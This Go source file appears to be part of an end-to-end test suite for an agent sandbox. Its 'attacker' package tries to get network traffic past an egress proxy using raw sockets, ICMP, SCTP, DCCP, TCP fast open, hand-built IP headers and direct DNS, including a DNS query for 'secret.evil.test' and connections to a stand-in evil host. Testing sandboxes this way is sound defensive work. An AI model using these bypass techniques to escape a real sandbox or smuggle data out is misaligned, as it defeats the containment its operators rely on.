//go:build linux

package attacker

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/netip"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"

	"github.com/seed434b0696/agent-sandbox/test/e2e/escape/testnet"
)

// attackDirect sends to addresses without a proxy: pairs of a protocol and ADDRESS:PORT.
func attackDirect(args []string) {
	kinds := map[string][2]int{
		"tcp": {unix.SOCK_STREAM, 0}, "mptcp": {unix.SOCK_STREAM, unix.IPPROTO_MPTCP}, "sctp": {unix.SOCK_STREAM, unix.IPPROTO_SCTP},
		"udp": {unix.SOCK_DGRAM, 0}, "udplite": {unix.SOCK_DGRAM, unix.IPPROTO_UDPLITE}, "dccp": {unix.SOCK_DCCP, unix.IPPROTO_DCCP},
		"ping": {unix.SOCK_DGRAM, unix.IPPROTO_ICMP}, "raw": {unix.SOCK_RAW, unix.IPPROTO_ICMP}, "fastopen": {unix.SOCK_STREAM, 0},
		"header": {unix.SOCK_RAW, unix.IPPROTO_RAW},
	}
	for i := 0; i+1 < len(args); i += 2 {
		if args[i] == "dns" {
			report("direct dns "+args[i+1], askDirect(args[i+1]))
			continue
		}
		kind, ok := kinds[args[i]]
		to, err := netip.ParseAddrPort(args[i+1])
		if !ok || err != nil {
			fmt.Println("BROKEN", args[i], args[i+1], err)
			return
		}
		report("direct "+args[i]+" "+args[i+1], sendDirect(args[i], kind, to))
	}
}

// attackPatience tries to reach the network while the host's process is stopped. It starts no program and opens no file,
// because those calls wait for the host, too. It begins after a line from the first pipe, and writes a line to the second at
// its end.
func attackPatience(pipes []string) {
	begin, err := os.OpenFile(pipes[0], os.O_RDWR, 0)
	if err != nil {
		fmt.Println("BROKEN", err)
		return
	}
	end, err := os.OpenFile(pipes[1], os.O_RDWR, 0)
	if err != nil {
		fmt.Println("BROKEN", err)
		return
	}
	fmt.Println("ready")
	if _, err = begin.Read(make([]byte, 100)); err != nil {
		fmt.Println("BROKEN", err)
		return
	}
	for _, try := range []struct {
		name string
		do   func() error
	}{
		{"the proxy", func() error {
			answer, err := (&Probe{Via: "plain", To: "http://allowed.test/"}).answer()
			if strings.Contains(answer, testnet.Permitted) {
				return nil
			}
			return errors.Join(err, errors.New("no answer"))
		}},
		{"a name server", func() error { return askDirect("127.0.0.1:53") }},
		{"a packet", func() error {
			return sendDirect("udp", [2]int{unix.SOCK_DGRAM, 0}, netip.MustParseAddrPort(testnet.EvilAddr+":53"))
		}},
		{"a connection", func() error {
			return sendDirect("tcp", [2]int{unix.SOCK_STREAM, 0}, netip.MustParseAddrPort(testnet.EvilAddr+":80"))
		}},
		{"the machine", func() error {
			return sendDirect("tcp", [2]int{unix.SOCK_STREAM, 0}, netip.MustParseAddrPort("127.0.0.1:7001"))
		}},
	} {
		done := make(chan error, 1)
		go func() { done <- try.do() }()
		select {
		case err := <-done:
			report(try.name, err)
		case <-time.After(testnet.DialTimeout / 2):
			report(try.name, errors.New("no answer in time"))
		}
	}
	if _, err := end.WriteString("done\n"); err != nil {
		fmt.Println("BROKEN", err)
	}
}

// askDirect sends a question to a name server, and returns an error without an answer.
func askDirect(addr string) error {
	c, err := (&net.Dialer{Timeout: testnet.DialTimeout}).Dial("udp", addr)
	if err != nil {
		return err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(testnet.DialTimeout / 3))
	query := "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x04test\x00\x00\x01\x00\x01"
	if _, err := io.WriteString(c, query); err != nil {
		return err
	}
	_, err = c.Read(make([]byte, 512))
	return err
}

// sendDirect returns nil if a packet was sent or a connection was made.
func sendDirect(name string, kind [2]int, to netip.AddrPort) error {
	family, protocol := unix.AF_INET, kind[1]
	var sa unix.Sockaddr
	if to.Addr().Is4() {
		sa = &unix.SockaddrInet4{Port: int(to.Port()), Addr: to.Addr().As4()}
	} else {
		family, sa = unix.AF_INET6, &unix.SockaddrInet6{Port: int(to.Port()), Addr: to.Addr().As16()}
		if protocol == unix.IPPROTO_ICMP {
			protocol = unix.IPPROTO_ICMPV6
		}
	}
	fd, err := unix.Socket(family, kind[0]|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, protocol)
	if err != nil {
		return fmt.Errorf("socket: %w", err)
	}
	defer unix.Close(fd)
	if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_BROADCAST, 1); err != nil {
		return err
	}
	echo := []byte{8, 0, 0xf7, 0xff, 0, 0, 0, 0}
	if family == unix.AF_INET6 {
		echo[0] = 128
	}
	switch {
	case name == "fastopen":
		err = unix.Sendto(fd, []byte("GET / HTTP/1.0\r\n\r\n"), unix.MSG_FASTOPEN, sa)
	case name == "header":
		ip := []byte{0x45, 0, 0, 28, 0, 1, 0, 0, 64, 1, 0, 0, 0, 0, 0, 0}
		addr := to.Addr().As4()
		return unix.Sendto(fd, append(append(ip, addr[:]...), echo...), 0, sa)
	case kind[0] != unix.SOCK_STREAM && kind[0] != unix.SOCK_DCCP:
		return unix.Sendto(fd, echo, 0, sa)
	default:
		err = unix.Connect(fd, sa)
	}
	if err != nil && !errors.Is(err, unix.EINPROGRESS) {
		return err
	}
	n, err := unix.Poll([]unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}, int(testnet.DialTimeout.Milliseconds()))
	if err != nil || n == 0 {
		return errors.Join(err, errors.New("no answer"))
	}
	code, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ERROR)
	if err == nil && code != 0 {
		err = unix.Errno(code)
	}
	return err
}
